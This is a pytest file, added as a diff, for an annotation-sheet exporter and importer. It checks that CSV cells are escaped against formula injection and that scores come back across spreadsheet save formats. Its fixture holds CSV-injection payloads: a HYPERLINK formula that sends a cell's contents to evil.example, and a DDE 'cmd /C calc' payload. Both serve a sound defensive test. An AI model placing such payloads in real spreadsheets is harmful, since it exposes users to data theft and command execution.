@@ -1,0 +1,338 @@
+"""Annotation sheets as spreadsheets, editors and tired people give them back."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from collections import Counter
+from collections.abc import Callable
+from dataclasses import replace
+from pathlib import Path
+
+import numpy as np
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from harvest.annotation_sheet import COLUMNS, Assessed, counts, sampled, sheet_rows, write_sheet
+from harvest.filled_sheet import FilledSheet, read_sheet
+from harvest.sheet_file import LARGEST, kept_apart, read_rows, taken_back, writable
+from protocols.answer import Answer
+from recordings.conversation import Conversation, Outcome, SystemTurn, TrialKey, Turn
+from scoring.swan.assessment import assess
+from scoring.swan.schema import load_schema
+from topics.errors import InputError
+
+SCHEMA = load_schema()
+ANSWERS = (
+    '=HYPERLINK("http://evil.example/?"&A1;"click")',
+    "+49 30 1234",
+    "-1 is the answer; or 2, or\tthree",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "'=quoted already",
+    "1.10",
+    "TRUE",
+    'She said "no", twice.\r\nThen a new line; ünïcödé, もう一つ, \ud83d half, NUL \0 and ESC \x1b.',
+)
+
+
+def assessed(*answers: str, system: str = "B", topic: str = "007", trial: int = 1) -> Assessed:
+    """One conversation with these answers."""
+    turns = tuple(Turn(i, "S", "=1+1", SystemTurn(Answer(text))) for i, text in enumerate(answers, 1))
+    conversation = Conversation(TrialKey(system, topic, trial), f"{trial:032x}", 1, turns, Outcome("completed"))
+    return Assessed(conversation, assess(conversation, SCHEMA))
+
+
+def test_the_answers_of_these_tests_are_in_a_recorded_conversation() -> None:
+    assert counts([assessed(*ANSWERS)], [SCHEMA["Fluency"], SCHEMA["Adaptability"]]) == {
+        "Fluency": len(ANSWERS),
+        "Adaptability": 1,
+    }
+
+
+def exported(path: Path, *criteria: str, of: list[Assessed] | None = None) -> list[list[str]]:
+    """The cells of a sheet about the fluency of the answers, as a standard reader reads them."""
+    one = of or [assessed(*ANSWERS)]
+    write_sheet((row for name in criteria or ("Fluency",) for row in sheet_rows(one, SCHEMA[name])), path)
+    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
+
+
+def filled(cells: list[list[str]], value: str = "0.5") -> list[list[str]]:
+    at = cells[0].index("value")
+    return [cells[0], *([*row[:at], value, *row[at + 1 :]] for row in cells[1:])]
+
+
+def as_text(cells: list[list[str]], separator: str = ",", end: str = "\n", quoting: int = csv.QUOTE_MINIMAL) -> str:
+    out = io.StringIO(newline="")
+    csv.writer(out, delimiter=separator, lineterminator=end, quoting=quoting).writerows(cells)  # type: ignore[arg-type]
+    return out.getvalue()
+
+
+def imported(path: Path, data: bytes, of: list[Assessed] | None = None) -> FilledSheet:
+    path.write_bytes(data)
+    return read_sheet(path, of or [assessed(*ANSWERS)], SCHEMA)
+
+
+@given(st.text(alphabet=st.characters(codec="utf-8") | st.sampled_from("'=+-@\t\r 0123456789.eE")))
+def test_what_is_kept_apart_is_taken_back_exactly_and_steers_no_spreadsheet(text: str) -> None:
+    cell = kept_apart(text)
+    assert taken_back(cell) == text
+    assert not cell.lstrip().startswith(tuple("=+-@＝＋－＠"))
+
+
+def test_no_cell_of_a_sheet_begins_as_a_formula_or_looks_like_another_number(tmp_path: Path) -> None:
+    cells = exported(tmp_path / "s.csv")
+    text = cells[0].index("text")
+    assert [row[text][:3] for row in cells[1:8]] == ["'=H", "'+4", "'-1", "'@S", "''=", "'1.", "'TR"]
+    assert {row[cells[0].index("said")] for row in cells[1:]} == {"'=1+1"}
+    assert {row[cells[0].index("topic")] for row in cells[1:]} == {"'007"}
+    assert cells[1][cells[0].index("trial")] == "1"
+
+
+def test_a_row_can_be_read_by_a_person_before_anything_a_machine_needs(tmp_path: Path) -> None:
+    whole = "I think the film is old. Looper was made in 2012. It is long."
+    cells = exported(tmp_path / "s.csv", "Correctness", of=[assessed(whole, topic="M001")])
+    row = dict(zip(cells[0], cells[2], strict=True))
+    assert tuple(cells[0]) == COLUMNS
+    assert cells[0].index("id") == len(cells[0]) - 1
+    assert cells[2][:5] == ["B", "M001", "1", "1", "system"]
+    assert row["text"] == "Looper was made in 2012."
+    assert row["context"] == "I think the film is old. ⟦Looper was made in 2012.⟧ It is long."
+    assert row["value"] == ""
+
+
+def in_utf8(cells: list[list[str]]) -> bytes:
+    return as_text(cells).encode()
+
+
+def by_excel_in_german(cells: list[list[str]]) -> bytes:
+    decimal = [[cell.replace("0.5", "0,5") if cell == "0.5" else cell for cell in row] for row in cells]
+    return as_text(decimal, ";", "\r\n").encode("utf-8-sig")
+
+
+def by_excel_as_unicode_text(cells: list[list[str]]) -> bytes:
+    return as_text(cells, "\t", "\r\n").encode("utf-16")
+
+
+def by_libreoffice_with_every_cell_quoted(cells: list[list[str]]) -> bytes:
+    return as_text(cells, ",", "\n", csv.QUOTE_ALL).encode()
+
+
+def with_a_declared_separator(cells: list[list[str]]) -> bytes:
+    return b"\xef\xbb\xbfsep=;\r\n" + as_text(cells, ";", "\r\n").encode()
+
+
+def with_empty_columns_and_rows_at_the_end(cells: list[list[str]]) -> bytes:
+    wide = [[*row, "", "", ""] for row in cells]
+    return as_text([*wide, [""] * len(wide[0]), [""] * len(wide[0])]).encode()
+
+
+def with_names_in_capitals_and_columns_in_another_order(cells: list[list[str]]) -> bytes:
+    turned = [row[::-1] for row in cells]
+    return as_text([[f" {name.upper()} " for name in turned[0]], *turned[1:]]).encode()
+
+
+def with_rows_sorted_and_a_column_of_ones_own(cells: list[list[str]]) -> bytes:
+    return as_text([[*cells[0], "my thoughts"], *([*row, "hm, well"] for row in reversed(cells[1:]))]).encode()
+
+
+def with_line_ends_of_old_machines(cells: list[list[str]]) -> bytes:
+    return as_text(cells, ",", "\r").encode()
+
+
+@pytest.mark.parametrize(
+    "save",
+    [
+        in_utf8,
+        by_excel_in_german,
+        by_excel_as_unicode_text,
+        by_libreoffice_with_every_cell_quoted,
+        with_a_declared_separator,
+        with_empty_columns_and_rows_at_the_end,
+        with_names_in_capitals_and_columns_in_another_order,
+        with_rows_sorted_and_a_column_of_ones_own,
+        with_line_ends_of_old_machines,
+    ],
+)
+def test_however_a_spreadsheet_saves_it_the_same_scores_come_back(
+    tmp_path: Path, save: Callable[[list[list[str]]], bytes]
+) -> None:
+    sheet = tmp_path / "s.csv"
+    found = imported(sheet, save(filled(exported(sheet, "Fluency", "Adaptability"))))
+    assert sorted((one.criterion, one.about.get("turn", 0), one.value) for one in found.judgments) == [
+        ("Adaptability", 0, 0.5),
+        *(("Fluency", turn, 0.5) for turn in range(1, len(ANSWERS) + 1)),
+    ]
+    assert [one.about for one in found.judgments if one.criterion == "Adaptability"] == [
+        {"system": "B", "topic": "007"}
+    ]
+
+
+def test_a_jsonl_sheet_holds_formulas_as_they_are_and_comes_back(tmp_path: Path) -> None:
+    sheet = tmp_path / "s.jsonl"
+    write_sheet(sheet_rows([assessed(*ANSWERS)], SCHEMA["Fluency"]), sheet)
+    rows = [json.loads(line) for line in sheet.read_text(encoding="utf-8").splitlines()]
+    assert rows[0]["text"] == ANSWERS[0]
+    found = imported(sheet, "\n".join(json.dumps({**row, "value": 0.25}) for row in rows).encode())
+    assert [one.value for one in found.judgments] == [0.25] * len(ANSWERS)
+
+
+def test_a_key_that_stands_twice_in_a_line_is_refused_because_one_value_would_be_lost(tmp_path: Path) -> None:
+    with pytest.raises(InputError, match=r"s\.jsonl:1:38: the key 'value' stands twice"):
+        imported(tmp_path / "s.jsonl", b'{"criterion": "Fluency", "value": 1, "value": 0}\n')
+
+
+def test_a_cell_that_a_spreadsheet_cut_short_is_still_known(tmp_path: Path) -> None:
+    sheet, one = tmp_path / "s.csv", [assessed("word, " * 9000)]
+    cells = filled(exported(sheet, of=one))
+    at = cells[0].index("text")
+    cut = [cells[0], [*cells[1][:at], cells[1][at][:32_767], *cells[1][at + 1 :]]]
+    assert len(imported(sheet, in_utf8(cut), one).judgments) == 1
+    other = [cells[0], [*cells[1][:at], "other " * 6000, *cells[1][at + 1 :]]]
+    with pytest.raises(InputError, match="not the words of the recording"):
+        imported(sheet, in_utf8(other), one)
+
+
+@pytest.mark.parametrize(
+    ("value", "read"),
+    [("0,5", 0.5), (",25", 0.25), ("1,0", 1.0), ("1.", 1.0), (".5", 0.5), ("5e-1", 0.5), ("N/A", None), ("-", None)],
+)
+def test_scores_are_read_in_the_forms_spreadsheets_give_them(tmp_path: Path, value: str, read: float | None) -> None:
+    cells = filled(exported(tmp_path / "s.csv"), value)
+    assert {one.value for one in imported(tmp_path / "s.csv", in_utf8(cells)).judgments} == {read}
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "50%",
+        "1,000",
+        "2",
+        "-0.5",
+        "nan",
+        "inf",
+        "1e999",
+        "0x1",
+        "½",
+        "٠",
+        "TRUE",
+        "1/2",
+        "05.Mai",
+        "#N/A",
+        "0.5 ?",
+        "1 0",
+    ],
+)
+def test_what_could_be_two_scores_or_none_is_refused_and_not_guessed(tmp_path: Path, value: str) -> None:
+    cells = filled(exported(tmp_path / "s.csv"), value)
+    with pytest.raises(InputError, match=r"s\.csv:2:\d+: value: .* is no score\n  allowed: a number from 0 to 1"):
+        imported(tmp_path / "s.csv", in_utf8(cells))
+
+
+@pytest.mark.parametrize(
+    ("data", "what"),
+    [
+        (b"", "the sheet is empty"),
+        (b"\xef\xbb\xbf", "the sheet is empty"),
+        (b"criterion,note\nFluency,x\n", "there is no column 'value'"),
+        (b"PK\x03\x04\0\0", "a NUL byte"),
+        (b"criterion,value\nFluency,\xe9\n", "CSV UTF-8"),
+        (b"\xff\xfecriterion", "not whole as UTF-16"),
+        (b'criterion,value\n"Fluency,1\n', "never closed"),
+        (b"criterion,value,value\nFluency,1,0\n", "two columns are called 'value'"),
+        (b"criterion,value\nFluency,1,0\n", "3 cells in a table of 2 columns"),
+        (b"criterion;value\nFluency;1;0\n", "holds a semicolon"),
+        (b"criterion,value\n,1\n", "no criterion called ''"),
+        (b"criterion,value\nFluency,1\n", "attempt: '' is no whole number"),
+        (b"criterion,value,id,attempt\nFluency,1,1.23E+31,1\n", "took it for a number"),
+        (b"criterion,value,system,topic\nAdaptability,1,B,7\n", "no finished conversation of the system 'B'"),
+    ],
+)
+def test_what_is_no_sheet_is_refused_with_its_place_and_what_to_do(tmp_path: Path, data: bytes, what: str) -> None:
+    with pytest.raises(InputError, match=what) as caught:
+        imported(tmp_path / "s.csv", data)
+    assert str(caught.value).startswith(f"{tmp_path}/s.csv")
+
+
+def test_a_sheet_of_200_megabytes_is_refused_before_it_is_taken_apart(tmp_path: Path) -> None:
+    sheet = tmp_path / "s.csv"
+    with sheet.open("wb") as file:
+        file.truncate(200 * 2**20)
+    with pytest.raises(InputError, match="larger than 64 MiB"):
+        read_sheet(sheet, [], SCHEMA)
+
+
+def test_a_sheet_that_could_not_be_read_again_is_not_written(tmp_path: Path) -> None:
+    long = [{"text": "x" * 2**20}] * (LARGEST // 2**20 + 1)
+    with pytest.raises(InputError, match="--sample N"):
+        write_sheet(long, tmp_path / "s.csv")
+    assert not list(tmp_path.iterdir())
+
+
+def test_half_filled_sheets_say_how_many_rows_were_left_out_and_that_their_notes_are(tmp_path: Path) -> None:
+    cells = exported(tmp_path / "s.csv")
+    value, note = (cells[0].index(name) for name in ("value", "note"))
+    cells[1][value], cells[1][note], cells[2][note] = "1", "fine", "don't know"
+    found = imported(tmp_path / "s.csv", in_utf8(cells))
+    assert (len(found.judgments), found.judgments[0].note) == (1, "fine")
+    assert (found.empty, found.notes) == (len(ANSWERS) - 1, 1)
+
+
+def test_words_of_another_row_are_refused_where_only_a_part_of_the_columns_was_sorted(tmp_path: Path) -> None:
+    cells = filled(exported(tmp_path / "s.csv"))
+    at = cells[0].index("id")
+    cells[1][: at - 3], cells[2][: at - 3] = cells[2][: at - 3], cells[1][: at - 3]
+    turn = cells[0].index("turn")
+    cells[1][turn], cells[2][turn] = cells[2][turn], cells[1][turn]
+    with pytest.raises(InputError, match="not the words of the recording"):
+        imported(tmp_path / "s.csv", in_utf8(cells))
+
+
+def test_every_row_is_as_likely_to_be_drawn_and_every_topic_has_its_share() -> None:
+    rows = [
+        {"topic": topic, "system": system}
+        for topic, count in (("a", 30), ("b", 12), ("c", 3))
+        for system in "xyz"
+        for _ in range(count // 3)
+    ]
+    drawn = Counter[int]()
+    for seed in range(600):
+        chosen = sampled(rows, 15, np.random.default_rng(seed))
+        topics = Counter(row["topic"] for row in chosen)
+        assert (len(chosen), topics["a"], topics["b"], topics["c"]) == (15, 10, 4, 1)
+        places = [next(i for i, row in enumerate(rows) if row is one) for one in chosen]
+        assert places == sorted(set(places))
+        drawn.update(places)
+    # 600 draws at 1/3: 200 expected, standard deviation 11.5; 45 rows stay within five of them
+    assert all(142 < drawn[i] < 258 for i in range(len(rows)))
+
+
+def test_a_sample_smaller_than_the_topics_does_not_always_take_the_largest() -> None:
+    rows = [{"topic": topic, "system": "x"} for topic, count in (("a", 5), ("b", 1)) for _ in range(count)]
+    topics = Counter(sampled(rows, 1, np.random.default_rng(seed))[0]["topic"] for seed in range(300))
+    assert 20 < topics["b"] < 80  # 50 expected
+
+
+def test_the_same_seed_draws_the_same_rows_and_a_sample_of_all_is_all() -> None:
+    rows = [{"topic": str(i % 7), "system": "x", "id": str(i)} for i in range(50)]
+    one, again, other = (sampled(rows, 10, np.random.default_rng(seed)) for seed in (1, 1, 2))
+    assert one == again != other
+    assert sampled(rows, 50, np.random.default_rng(1)) == sampled(rows, 99, np.random.default_rng(1)) == rows
+
+
+def test_places_in_a_sheet_after_a_declared_separator_are_those_of_the_file(tmp_path: Path) -> None:
+    (tmp_path / "s.csv").write_text("sep=;\ncriterion;value\nFluency;1\n", encoding="utf-8")
+    (row,) = read_rows(tmp_path / "s.csv", COLUMNS, ("value",))
+    assert (row.where("value").line, row.where("value").column) == (3, 9)
+
+
+def test_two_systems_in_one_sheet_are_told_apart_by_what_stands_in_the_row(tmp_path: Path) -> None:
+    two = [assessed("yes", system="A"), assessed("no", system="C", trial=2)]
+    two[1] = replace(two[1], conversation=replace(two[1].conversation, trial_id="f" * 32))
+    found = imported(tmp_path / "s.csv", in_utf8(filled(exported(tmp_path / "s.csv", "Adaptability", of=two))), two)
+    assert [one.about for one in found.judgments] == [{"system": name, "topic": "007"} for name in "AC"]
+
+
+def test_half_a_surrogate_pair_and_a_control_character_are_written_out() -> None:
+    assert writable("a\ud83d\0\x1b\n\tb") == "a\\ud83d\\x00\\x1b\n\tb"
